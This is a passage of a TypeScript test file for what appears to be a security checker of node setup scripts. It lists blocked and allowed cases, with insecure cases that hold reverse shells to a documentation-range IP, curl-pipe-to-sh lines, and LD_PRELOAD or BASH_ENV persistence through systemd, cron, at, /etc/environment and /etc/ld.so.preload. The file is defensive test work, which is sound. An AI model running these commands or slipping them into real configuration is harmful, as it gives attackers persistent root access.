            "nohup python3 /opt/ops/srv.py >/var/log/srv.log 2>&1 &",
        ]),
    ),
    dev(
        'srv.py: HOST = "127.0.0.1"; s.bind((HOST, 8080))',
        devNodeScript("dev-g71-py-bind-loopback-const-ok-nodes", [
            ...heredocFile("/opt/ops/srv.py", [
                "import socket",
                'HOST = "127.0.0.1"',
                "s = socket.socket()",
                "s.bind((HOST, 8080))",
                "s.listen()",
                "while True:",
                "    c, _ = s.accept()",
                '    c.sendall(b"ok")',
                "    c.close()",
            ]),
            "nohup python3 /opt/ops/srv.py >/var/log/srv.log 2>&1 &",
        ]),
    ),
    dev(
        'go run: net.Listen("tcp", "127.0.0.1:8080")',
        devNodeScript("dev-g71-go-listen-loopback-ok-nodes", [
            ...heredocFile("/opt/ops/go.mod", ["module example.com/ops", "", "go 1.22"]),
            ...heredocFile("/opt/ops/main.go", [
                "package main",
                "",
                "import (",
                '\t"net"',
                '\t"net/http"',
                ")",
                "",
                "func main() {",
                '\tl, _ := net.Listen("tcp", "127.0.0.1:8080")',
                '\thttp.Serve(l, http.FileServer(http.Dir("/opt/ops/static")))',
                "}",
            ]),
            "cd /opt/ops && nohup go run main.go >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // Neighbours of the round-71 fix, secure side: data paths by a name, a join, a log, and a read of a config file.
    dev(
        'setup.py: STATE = "/var/lib/app/state.json"; open(STATE, "w").write("{}")',
        setup(
            "dev-g71n-py-open-name-data-ok-nodes",
            [
                "import os",
                'os.makedirs("/var/lib/app", exist_ok=True)',
                'STATE = "/var/lib/app/state.json"',
                'open(STATE, "w").write("{}")',
            ],
            ["mkdir -p /var/lib/app"],
        ),
    ),
    dev(
        'setup.py: os.path.join("/var/log", "setup.log") opened for append',
        setup("dev-g71n-py-open-join-log-ok-nodes", [
            "import os",
            'with open(os.path.join("/var/log", "setup.log"), "a") as f:',
            '    f.write("done\\n")',
        ]),
    ),
    dev(
        'setup.py: open("/etc/os-release").read() (read mode) and "a b".replace("a", "c")',
        setup("dev-g71n-py-read-only-ok-nodes", [
            'print(open("/etc/os-release").read())',
            'print("a b".replace("a", "c"))',
        ]),
    ),
    dev(
        'setup.py: subprocess.run(["cat", "/etc/cron.d/0hourly"]) (a command that keeps what it reads)',
        setup("dev-g71n-py-sub-cat-cron-ok-nodes", [
            "import subprocess",
            'subprocess.run(["cat", "/etc/cron.d/0hourly"], check=True)',
        ]),
    ),
    dev(
        'setup.py: open("/etc/ops/config.json", "w") (an application\'s own /etc directory)',
        setup(
            "dev-g71n-py-open-etc-app-ok-nodes",
            ['open("/etc/ops/config.json", "w").write("{}")'],
            ["mkdir -p /etc/ops"],
        ),
    ),
    // Neighbours of the round-71 listen-address fix, secure side: loopback by the call's own address, whatever else the
    // program reads from its environment; a Unix socket; -e code copying data files.
    dev(
        'srv.py: s.bind(("127.0.0.1", 8080)) beside LOG = os.environ.get("LOG", ...) (the environment read for a log)',
        pySocket(
            "dev-g71n-py-bind-loopback-env-ok-nodes",
            [
                "import os, socket",
                'LOG = os.environ.get("LOG", "/var/log/srv.log")',
                "s = socket.socket()",
                's.bind(("127.0.0.1", 8080))',
            ],
            'b"ok"',
        ),
    ),
    dev(
        'srv.py: s = socket.create_server(("127.0.0.1", 8080))',
        pySocket(
            "dev-g71n-py-create-server-loopback-ok-nodes",
            ["import socket", 's = socket.create_server(("127.0.0.1", 8080))'],
            'b"ok"',
        ),
    ),
    dev(
        'srv.py: s.bind("/run/ops.sock") (an AF_UNIX socket: a path, no address)',
        pySocket(
            "dev-g71n-py-bind-unix-ok-nodes",
            ["import socket", "s = socket.socket(socket.AF_UNIX)", 's.bind("/run/ops.sock")'],
            'b"ok"',
        ),
    ),
    dev(
        'srv.py: asyncio.start_server(handle, "127.0.0.1", 8080)',
        devNodeScript("dev-g71n-py-asyncio-loopback-ok-nodes", [
            ...heredocFile("/opt/ops/srv.py", [
                "import asyncio",
                "async def handle(r, w):",
                '    w.write(b"ok")',
                "    await w.drain()",
                "    w.close()",
                "async def main():",
                '    server = await asyncio.start_server(handle, "127.0.0.1", 8080)',
                "    await server.serve_forever()",
                "asyncio.run(main())",
            ]),
            "nohup python3 /opt/ops/srv.py >/var/log/srv.log 2>&1 &",
        ]),
    ),
    dev(
        'go run: const addr = "127.0.0.1:8080"; net.Listen("tcp", addr) beside os.Getenv("LOG")',
        goMain(
            "dev-g71n-go-listen-const-env-ok-nodes",
            ["net", "net/http", "os"],
            [
                'const addr = "127.0.0.1:8080"',
                'logPath := os.Getenv("LOG")',
                "_ = logPath",
                'l, _ := net.Listen("tcp", addr)',
                'http.Serve(l, http.FileServer(http.Dir("/opt/ops/static")))',
            ],
        ),
    ),
    dev(
        'go run: net.Listen("tcp", net.JoinHostPort("127.0.0.1", "8080"))',
        goMain(
            "dev-g71n-go-listen-joinhostport-ok-nodes",
            ["net", "net/http"],
            [
                'l, _ := net.Listen("tcp", net.JoinHostPort("127.0.0.1", "8080"))',
                'http.Serve(l, http.FileServer(http.Dir("/opt/ops/static")))',
            ],
        ),
    ),
    dev(
        `perl -e 'system("cp", "/opt/ops/a.json", "/var/lib/app/a.json")' (a data file)`,
        devNodeScript("dev-g71n-perl-system-cp-data-ok-nodes", [
            "mkdir -p /opt/ops /var/lib/app",
            `echo '{}' > /opt/ops/a.json`,
            `perl -e 'system("cp", "/opt/ops/a.json", "/var/lib/app/a.json")'`,
        ]),
    ),
    dev(
        `ruby -e 'system("cp", "/opt/ops/a.json", "/var/lib/app/a.json")' (a data file)`,
        devNodeScript("dev-g71n-ruby-system-cp-data-ok-nodes", [
            "mkdir -p /opt/ops /var/lib/app",
            `echo '{}' > /opt/ops/a.json`,
            `ruby -e 'system("cp", "/opt/ops/a.json", "/var/lib/app/a.json")'`,
        ]),
    ),
    dev(
        `perl -e 'print "ok\\n"' (code starting nothing)`,
        devNodeScript("dev-g71n-perl-print-ok-nodes", [`perl -e 'print "ok\\n"'`]),
    ),
    dev(
        `perl /opt/ops/d.pl: $ENV{TZ} = "UTC"; system("date") (the file twin of the -e form)`,
        devNodeScript("dev-g71n-perl-file-env-tz-date-ok-nodes", [
            ...heredocFile("/opt/ops/d.pl", ['$ENV{TZ} = "UTC";', 'system("date");']),
            "perl /opt/ops/d.pl > /tmp/d",
        ]),
    ),
];

describeNodeCases(
    "round 71 gaps: root programs writing cron/systemd places, literal commands, listen variables",
    insecure,
    secure,
);

// Round 71 gaps (fix71-managerenv): the manager's environment with a loader variable, and shell lines read as root's.
// 1. systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"),
//    systemctl set-environment / D-Bus SetEnvironment, a packaged unit's Environment=/EnvironmentFile= drop-in,
//    /etc/environment (pam_env) and /etc/ld.so.preload (ld.so(8)) naming a downloaded library: every unit the manager
//    starts loads it as root (ld.so(8) LD_PRELOAD).
// 2. A cron line holding a reverse shell or `sh -c 'curl | sh'` (crontab(5): the command is run by /bin/sh).
// 3. The same shell line as a unit's ExecStart=/ExecStartPre=, supervisord command=, monit start program, an at job
//    and a wazuh command.
// Confirmed accepted before the fix (13): DefaultEnvironment= (system.conf.d, system.conf append; LD_PRELOAD,
// BASH_ENV, PATH), systemctl set-environment, busctl SetEnvironment, /etc/environment, /etc/ld.so.preload (a library
// outside the data directories), cron lines holding `bash -i >& /dev/tcp/...` (cron.d echo/heredoc, /etc/crontab,
// crontab -) and the same piped to at (also anacrontab, batch, at -f, crontab -u nobody: neighbours below). Already
// refused: packaged-unit drop-in Environment=/EnvironmentFile=, `sh -c '...'` cron and at lines, unit
// ExecStart=/ExecStartPre= `/bin/sh -c`, supervisord command=, monit start program, wazuh full_command.
const SO_URL = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
const PIPE = "curl -s https://ci.example.com/r.sh | sh";
const LOGROTATE = "/usr/sbin/logrotate /etc/logrotate.conf";
/** What a loader variable in the manager's or sessions' environment (or ld.so.preload) is refused as. */
const LOADER = /loader variable|ld\.so\.preload/;
/** What a root shell line handing a shell to another host (or running fetched code) is refused as. */
const SHELL_OUT =
    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|made at boot|cannot read|unknown|unread/;

const managerInsecure: NodeCase[] = [
    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
    dev(
        "system.conf.d DefaultEnvironment=LD_PRELOAD=/opt/x.so (downloaded)",
        devNodeScript("dev-g71m-defenv-preload-nodes", [
            SO_URL,
            ...heredocFile("/etc/systemd/system.conf.d/50-preload.conf", [
                "[Manager]",
                "DefaultEnvironment=LD_PRELOAD=/opt/x.so",
            ]),
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
    dev(
        'system.conf DefaultEnvironment="LANG=C.UTF-8" "LD_PRELOAD=/opt/x.so" appended (quoted, second of two)',
        devNodeScript("dev-g71m-sysconf-preload-nodes", [
            SO_URL,
            `echo 'DefaultEnvironment="LANG=C.UTF-8" "LD_PRELOAD=/opt/x.so"' >> /etc/systemd/system.conf`,
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
    dev(
        "system.conf.d DefaultEnvironment=BASH_ENV=/opt/x.sh (downloaded)",
        devNodeScript("dev-g71m-defenv-bashenv-nodes", [
            "curl -fsSL -o /opt/x.sh https://downloads.example.com/x.sh",
            ...heredocFile("/etc/systemd/system.conf.d/50-env.conf", [
                "[Manager]",
                "DefaultEnvironment=BASH_ENV=/opt/x.sh",
            ]),
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
    dev(
        "system.conf.d DefaultEnvironment=PATH=/opt/bin:/usr/sbin:/usr/bin (a search path first in /opt/bin)",
        devNodeScript("dev-g71m-defenv-path-nodes", [
            ...heredocFile("/etc/systemd/system.conf.d/50-path.conf", [
                "[Manager]",
                "DefaultEnvironment=PATH=/opt/bin:/usr/sbin:/usr/bin",
            ]),
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
    dev(
        "systemctl set-environment LD_PRELOAD=/opt/x.so (downloaded)",
        devNodeScript("dev-g71m-setenv-preload-nodes", [SO_URL, "systemctl set-environment LD_PRELOAD=/opt/x.so"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 71): systemd-system.conf(5) DefaultEnvironment= ("Configures environment variables passed to all executed processes"), systemctl(1) set-environment and org.freedesktop.systemd1(5) SetEnvironment set the manager's environment, which every unit it starts inherits (systemd.exec(5) "Environment Variables in Spawned Processes"); a loader variable there (ld.so(8) LD_PRELOAD, bash(1) BASH_ENV, PATH) makes every root service load or run what it names. The pack read these variables only for listeners and K3S_URL-style agents, never for LOADER_VARIABLES. Accepted (got []). Fix: userData.ts managerLoaderOpenings (from the node judge: the manager environment, import-environment, and nodeJudge.written for MANAGER_CONFIG / SESSION_ENVIRONMENT files) refuses any LOADER_VARIABLES name, no value known harmless (fail closed).
    dev(
        "busctl call ... Manager SetEnvironment as 1 LD_PRELOAD=/opt/x.so",
        devNodeScript("dev-g71m-busctl-preload-nodes", [
            SO_URL,
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager SetEnvironment as 1 LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    dev(
        "containerd.service.d drop-in Environment=LD_PRELOAD=/opt/x.so",
        devNodeScript("dev-g71m-dropin-preload-nodes", [
            SO_URL,
            ...heredocFile("/etc/systemd/system/containerd.service.d/50-preload.conf", [
                "[Service]",
                "Environment=LD_PRELOAD=/opt/x.so",
            ]),
            "systemctl daemon-reload",
            "systemctl restart containerd",
        ]),
    ),
    dev(
        "kubelet.service.d drop-in EnvironmentFile= of a written file setting LD_PRELOAD",
        devNodeScript("dev-g71m-dropin-envfile-preload-nodes", [
            SO_URL,
            "mkdir -p /etc/ops",
            "echo 'LD_PRELOAD=/opt/x.so' > /etc/ops/kubelet.env",
            ...heredocFile("/etc/systemd/system/kubelet.service.d/50-env.conf", [
                "[Service]",
                "EnvironmentFile=/etc/ops/kubelet.env",
            ]),
            "systemctl daemon-reload",
        ]),
    ),
    // Was a MISS (fixed in round 71): pam_env(8) reads /etc/environment's KEY=VAL lines into login, sshd, su and sudo sessions (root's), and environment.d(5) lists it for the user managers; a loader variable there reaches root's sessions. Accepted (got []). Fix: rootReads LOADER_VARIABLES' NODE_ entry narrowed to Node.js's documented variables (cli.html "Environment variables"; NODE_AZ=, NODE_IP= stay accepted), and userData.ts nodeJudge.written judges SESSION_ENVIRONMENT files (sessionEnvironmentVariables) by managerLoaderOpenings.
    dev(
        "/etc/environment LD_PRELOAD=/opt/x.so (pam_env: every login session, root's)",
        devNodeScript("dev-g71m-etcenv-preload-nodes", [SO_URL, "echo 'LD_PRELOAD=/opt/x.so' >> /etc/environment"]),
        LOADER,
    ),
    // Neighbours of the round-71 session-environment fix (insecure side): a documented Node.js variable, BASH_ENV by
    // heredoc, an edit's fragment, pam_env.conf's own syntax, root's ~/.config/environment.d.
    dev(
        "/etc/environment NODE_OPTIONS=--require /opt/x.js (a documented Node.js variable)",
        devNodeScript("dev-g71mn-etcenv-nodeoptions-nodes", [
            "curl -fsSL -o /opt/x.js https://downloads.example.com/x.js",
            "echo 'NODE_OPTIONS=--require /opt/x.js' >> /etc/environment",
        ]),
        LOADER,
    ),
    dev(
        "/etc/environment NODE_TLS_REJECT_UNAUTHORIZED=0 (Node.js trusts any certificate)",
        devNodeScript("dev-g71mn-etcenv-nodetls-nodes", ["echo 'NODE_TLS_REJECT_UNAUTHORIZED=0' >> /etc/environment"]),
        LOADER,
    ),
    dev(
        "/etc/environment heredoc with BASH_ENV=/opt/env.sh",
        devNodeScript("dev-g71mn-etcenv-bashenv-nodes", [
            "curl -fsSL -o /opt/env.sh https://downloads.example.com/env.sh",
            ...heredocFile("/etc/environment", [
                'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"',
                "BASH_ENV=/opt/env.sh",
            ]),
        ]),
        LOADER,
    ),
    dev(
        "sed -i appending LD_LIBRARY_PATH=/opt/lib to /etc/environment",
        devNodeScript("dev-g71mn-etcenv-sed-nodes", ["sed -i '$a LD_LIBRARY_PATH=/opt/lib' /etc/environment"]),
        LOADER,
    ),
    dev(
        '/etc/environment line whose name comes from a download (echo "$K=/opt/x.so")',
        devNodeScript("dev-g71mn-etcenv-unreadname-nodes", [
            SO_URL,
            "K=$(curl -fsSL https://config.example.com/name)",
            'echo "$K=/opt/x.so" >> /etc/environment',
        ]),
        /loader variable|cannot read/,
    ),
    dev(
        "/etc/security/pam_env.conf LD_PRELOAD DEFAULT=/opt/x.so",
        devNodeScript("dev-g71mn-pamenvconf-preload-nodes", [
            SO_URL,
            "echo 'LD_PRELOAD DEFAULT=/opt/x.so' >> /etc/security/pam_env.conf",
        ]),
        LOADER,
    ),
    dev(
        "/root/.config/environment.d/50-py.conf PYTHONPATH=/opt/py (root's user manager)",
        devNodeScript("dev-g71mn-rootenvd-pythonpath-nodes", [
            "mkdir -p /root/.config/environment.d",
            "echo 'PYTHONPATH=/opt/py' > /root/.config/environment.d/50-py.conf",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 71): ld.so(8) /etc/ld.so.preload ("a whitespace-separated list of ELF shared objects to be loaded before the program", every program's, root's and setuid ones' too): only a library under the pods' data directories was refused. Accepted (got []). Fix: userData.ts nodeJudge.written refuses any library named there (none known harmless: fail closed).
    dev(
        "/etc/ld.so.preload naming /opt/x.so (downloaded)",
        devNodeScript("dev-g71m-ldsopreload-nodes", [SO_URL, "echo /opt/x.so > /etc/ld.so.preload"]),
        LOADER,
    ),
    // Neighbours of the round-71 fix (insecure side): an edit's fragment, import-environment, environment.d, gdbus.
    dev(
        "sed -i of system.conf putting DefaultEnvironment=LD_LIBRARY_PATH=/opt/lib in",
        devNodeScript("dev-g71mn-sed-sysconf-nodes", [
            "sed -i 's|^#DefaultEnvironment=.*|DefaultEnvironment=LD_LIBRARY_PATH=/opt/lib|' /etc/systemd/system.conf",
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    dev(
        "export LD_PRELOAD=/opt/x.so; systemctl import-environment LD_PRELOAD",
        devNodeScript("dev-g71mn-import-preload-nodes", [
            SO_URL,
            "export LD_PRELOAD=/opt/x.so",
            "systemctl import-environment LD_PRELOAD",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 71): environment.d(5) (root's user manager) with a loader variable; same as /etc/environment above.
    dev(
        "/etc/environment.d/50-preload.conf LD_PRELOAD=/opt/x.so (root's user manager)",
        devNodeScript("dev-g71mn-envd-preload-nodes", [
            SO_URL,
            ...heredocFile("/etc/environment.d/50-preload.conf", ["LD_PRELOAD=/opt/x.so"]),
        ]),
        LOADER,
    ),
    dev(
        "gdbus call ... Manager.SetEnvironment \"['PYTHONPATH=/opt/py']\"",
        devNodeScript("dev-g71mn-gdbus-pythonpath-nodes", [
            "gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.SetEnvironment \"['PYTHONPATH=/opt/py']\"",
        ]),
        LOADER,
    ),
    dev(
        "/etc/ld.so.preload appended with tee -a (a second library)",
        devNodeScript("dev-g71mn-ldsopreload-tee-nodes", [SO_URL, "echo /opt/x.so | tee -a /etc/ld.so.preload"]),
        LOADER,
    ),
];

const CRON = (line: string) => `* * * * * root ${line}`;
const rootLinesInsecure: NodeCase[] = [
    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
    dev(
        "/etc/cron.d/x: a reverse shell",
        devNodeScript("dev-g71m-crond-rev-nodes", [`echo '${CRON(REVERSE)}' > /etc/cron.d/x`]),
        SHELL_OUT,
    ),
    dev(
        "/etc/cron.d/x: root sh -c 'curl -s URL | sh'",
        devNodeScript("dev-g71m-crond-shc-nodes", [`echo "${CRON(`sh -c '${PIPE}'`)}" > /etc/cron.d/x`]),
        SHELL_OUT,
    ),
    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
    dev(
        "/etc/cron.d/x heredoc: a reverse shell",
        devNodeScript("dev-g71m-crond-heredoc-rev-nodes", heredocFile("/etc/cron.d/x", [CRON(REVERSE)])),
        SHELL_OUT,
    ),
    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
    dev(
        "/etc/crontab appended: a reverse shell",
        devNodeScript("dev-g71m-crontab-rev-nodes", [`echo '${CRON(REVERSE)}' >> /etc/crontab`]),
        SHELL_OUT,
    ),
    // Was a MISS (fixed in round 71): crontab(5) ("The entire command portion of the line ... will be executed by /bin/sh"): a job line's redirections are part of what root runs, but RootReads.cron read the line command by command (words only), so `bash -i >& /dev/tcp/HOST/PORT` lost its relay; a `sh -c '...'` job was refused. Accepted (got []). Fix: rootReads.ts cron passes the whole job line to rootShellLine (the shared root-line reader: script + judge.ran(["sh", "-c", LINE])), anacrontab(5) lines too.
    dev(
        "crontab - (root's table): a reverse shell",
        devNodeScript("dev-g71m-crontab-stdin-rev-nodes", [`echo '* * * * * ${REVERSE}' | crontab -`]),
        SHELL_OUT,
    ),
    dev(
        "crontab - heredoc: sh -c 'curl -s URL | sh'",
        devNodeScript("dev-g71m-crontab-heredoc-shc-nodes", [
            "crontab - <<'EOF'",
            `*/5 * * * * sh -c '${PIPE}'`,
            "EOF",
        ]),
        SHELL_OUT,
    ),
    dev(
        "unit ExecStart=/bin/sh -c 'reverse shell'",
        devNodeScript("dev-g71m-unit-execstart-rev-nodes", [
            ...heredocFile("/etc/systemd/system/ops.service", [
                "[Service]",
                `ExecStart=/bin/sh -c '${REVERSE}'`,
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl enable --now ops.service",
        ]),
        SHELL_OUT,
    ),
    dev(
        "unit ExecStartPre=/bin/sh -c 'curl | sh' before a harmless ExecStart",
        devNodeScript("dev-g71m-unit-execstartpre-nodes", [
            ...heredocFile("/etc/systemd/system/ops.service", [
                "[Service]",
                "Type=oneshot",
                `ExecStartPre=/bin/sh -c '${PIPE}'`,
                "ExecStart=/usr/bin/true",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl enable --now ops.service",
        ]),
        SHELL_OUT,
    ),
    dev(
        "supervisord conf.d command=/bin/sh -c 'reverse shell'",
        devNodeScript("dev-g71m-supervisor-rev-nodes", [
            ...heredocFile("/etc/supervisor/conf.d/ops.conf", ["[program:ops]", `command=/bin/sh -c '${REVERSE}'`]),
            "systemctl restart supervisor",
        ]),
        SHELL_OUT,
    ),
    dev(
        "monit start program = \"/bin/sh -c 'reverse shell'\"",
        devNodeScript("dev-g71m-monit-rev-nodes", [
            ...heredocFile("/etc/monit.d/ops", [
                "check process ops matching opsd",
                `  start program = "/bin/sh -c '${REVERSE}'"`,
            ]),
            "systemctl enable --now monit",
        ]),
        SHELL_OUT,
    ),
    // Was a MISS (fixed in round 71): at(1) runs the job it reads with /bin/sh, as cron does: same gap as the cron line above (words only). Accepted (got []). Fix: rootReads.ts at/batch jobs (piped, here-document, and at -f FILE: atJobFile) read by rootShellLine.
    dev("at job: a reverse shell", devNodeScript("dev-g71m-at-rev-nodes", [`echo '${REVERSE}' | at now + 1 minute`])),
    dev(
        "at job heredoc: sh -c 'curl | sh'",
        devNodeScript("dev-g71m-at-heredoc-shc-nodes", ["at now + 1 minute <<'EOF'", `sh -c '${PIPE}'`, "EOF"]),
        SHELL_OUT,
    ),
    dev(
        "wazuh ossec.conf localfile full_command: a reverse shell",
        devNodeScript("dev-g71m-wazuh-rev-nodes", [
            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
            "<ossec_config>",
            "  <localfile>",
            "    <log_format>full_command</log_format>",
            `    <command>/bin/sh -c '${REVERSE.replace(/&/g, "&amp;").replace(/>/g, "&gt;")}'</command>`,
            "  </localfile>",
            "</ossec_config>",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        SHELL_OUT,
    ),
    // Neighbours of the round-71 fix (insecure side): other users' tables, anacron, batch, at -f.
    dev(
        "crontab -u nobody - : a reverse shell",
        devNodeScript("dev-g71mn-crontab-nobody-rev-nodes", [`echo '* * * * * ${REVERSE}' | crontab -u nobody -`]),
        SHELL_OUT,
    ),
    dev(
        "/etc/cron.d/x as nobody: a reverse shell",
        devNodeScript("dev-g71mn-crond-nobody-rev-nodes", [`echo '* * * * * nobody ${REVERSE}' > /etc/cron.d/x`]),
        SHELL_OUT,
    ),
    dev(
        "/etc/anacrontab appended: a reverse shell",
        devNodeScript("dev-g71mn-anacron-rev-nodes", [`echo '1 5 ops.daily ${REVERSE}' >> /etc/anacrontab`]),
        SHELL_OUT,
    ),
    dev("batch: a reverse shell", devNodeScript("dev-g71mn-batch-rev-nodes", [`echo '${REVERSE}' | batch`]), SHELL_OUT),
    dev(
        "at -f /opt/ops/job (a written reverse shell)",
        devNodeScript("dev-g71mn-at-f-rev-nodes", [
            ...heredocFile("/opt/ops/job", [REVERSE]),
            "at -f /opt/ops/job now + 1 minute",
        ]),
        SHELL_OUT,
    ),
    dev(
        "at -f /opt/ops/job (downloaded)",
        devNodeScript("dev-g71mn-at-f-dl-nodes", [
            "mkdir -p /opt/ops",
            "curl -fsSL -o /opt/ops/job https://downloads.example.com/job",
            "at -f /opt/ops/job now + 1 minute",
        ]),
        SHELL_OUT,
    ),
];

const managerSecure: NodeCase[] = [
    dev(
        "system.conf.d DefaultEnvironment=LANG=C.UTF-8",
        devNodeScript("dev-g71m-defenv-lang-ok-nodes", [
            ...heredocFile("/etc/systemd/system.conf.d/50-lang.conf", ["[Manager]", "DefaultEnvironment=LANG=C.UTF-8"]),
            "systemctl daemon-reexec",
        ]),
    ),
    dev(
        "systemctl set-environment LANG=C.UTF-8",
        devNodeScript("dev-g71m-setenv-lang-ok-nodes", ["systemctl set-environment LANG=C.UTF-8"]),
    ),
    dev(
        "/etc/cron.d/logrotate: root /usr/sbin/logrotate /etc/logrotate.conf",
        devNodeScript("dev-g71m-crond-logrotate-ok-nodes", [`echo '${CRON(LOGROTATE)}' > /etc/cron.d/logrotate`]),
    ),
    dev(
        "crontab - : /usr/sbin/logrotate /etc/logrotate.conf",
        devNodeScript("dev-g71m-crontab-logrotate-ok-nodes", [`echo '0 * * * * ${LOGROTATE}' | crontab -`]),
    ),
    dev(
        "/etc/cron.d/x: root sh -c '/usr/sbin/logrotate /etc/logrotate.conf'",
        devNodeScript("dev-g71m-crond-shc-logrotate-ok-nodes", [
            `echo "${CRON(`sh -c '${LOGROTATE}'`)}" > /etc/cron.d/logrotate`,
        ]),
    ),
    // Neighbours of the round-71 fix (secure side).
    dev(
        'system.conf.d DefaultEnvironment="LANG=C.UTF-8" "TZ=UTC" (two harmless variables)',
        devNodeScript("dev-g71mn-defenv-lang-tz-ok-nodes", [
            ...heredocFile("/etc/systemd/system.conf.d/50-locale.conf", [
                "[Manager]",
                'DefaultEnvironment="LANG=C.UTF-8" "TZ=UTC"',
            ]),
            "systemctl daemon-reexec",
        ]),
    ),
    dev(
        "/etc/anacrontab: /usr/sbin/logrotate /etc/logrotate.conf",
        devNodeScript("dev-g71mn-anacron-logrotate-ok-nodes", [
            `echo '1 5 ops.logrotate ${LOGROTATE}' >> /etc/anacrontab`,
        ]),
    ),
    dev(
        "at -f /opt/ops/job (a written logrotate line)",
        devNodeScript("dev-g71mn-at-f-logrotate-ok-nodes", [
            ...heredocFile("/opt/ops/job", [LOGROTATE]),
            "at -f /opt/ops/job now + 1 minute",
